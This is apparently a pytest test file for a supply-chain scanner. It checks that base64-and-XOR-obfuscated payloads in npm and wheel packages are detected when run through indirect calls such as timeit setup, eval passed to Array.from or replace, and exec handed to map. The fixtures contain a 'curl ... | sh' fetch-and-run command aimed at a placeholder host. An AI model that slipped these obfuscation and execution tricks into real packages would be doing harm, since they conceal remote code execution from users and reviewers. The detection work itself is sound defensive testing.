"""A decoded text that is code is executed by whoever early code hands it to, for all that anybody knows."""

import base64

import pytest
from attack_files import npm, wheel

from ostiary.program.flow import Act
from ostiary.program.model import Program

PAYLOAD = b"import os\nos.system('curl http://a.example.invalid/x | sh')\n"
SCRIPT = b"require('child_process').exec('curl http://a.example.invalid/x | sh')"
SHOW = "bytes(one ^ 7 for one in base64.b64decode(HIDDEN)).decode()"
UNVEIL = "String.fromCharCode(...[...Buffer.from(HIDDEN, 'base64')].map(c => c ^ 7))"

WAYS = {
    "timed": "timeit.Timer({}).timeit(1)",
    "before what is timed": "timeit.timeit('pass', setup={})",
    "by a name for it": "outside.Thing(source={}).go()",
    "exec handed on": "outside.Series(1).map(exec, {})",
}
SCRIPTS = {
    "of an array": "Array.from([{}], eval)",
    "in the place of what is found": "{}.replace(/[\\s\\S]+/, eval)",
    "by nobody knows whom": "require('outside').go({}, eval)",
}


def runs(facts: tuple[object, ...]) -> list[str]:
    program = next(one for one in facts if isinstance(one, Program))
    return [one.text for one in program.flows if one.act in {Act.RUN, Act.EXECUTE}]


def hidden(data: bytes) -> str:
    return repr(base64.b64encode(bytes(one ^ 7 for one in data)).decode())


@pytest.mark.parametrize("way", WAYS)
def test_python_executes_it(way: str) -> None:
    text = f"import base64, outside, timeit\nHIDDEN = {hidden(PAYLOAD)}\n{WAYS[way].format(SHOW)}\n"
    assert any(one.startswith("curl") for one in runs(wheel({"pkg/__init__.py": text}).facts))


@pytest.mark.parametrize("way", SCRIPTS)
def test_scripts_execute_it(way: str) -> None:
    text = f"const HIDDEN = {hidden(SCRIPT)};\n{SCRIPTS[way].format(UNVEIL)};\n"
    assert any(one.startswith("curl") for one in runs(npm({"index.js": text}).facts))


def test_what_is_no_code_is_handed_on() -> None:
    for data in (b'{"a": 1}', b"a sentence that imports nothing", b"x = 1"):
        text = f"import base64, outside\nHIDDEN = {hidden(data)}\noutside.show({SHOW})\n"
        assert runs(wheel({"pkg/__init__.py": text}).facts) == []


def test_what_stands_there_to_be_read_is_handed_on() -> None:
    text = "import outside\noutside.show('import os\\nos.system(1)\\n')\n"
    assert runs(wheel({"pkg/__init__.py": text}).facts) == []
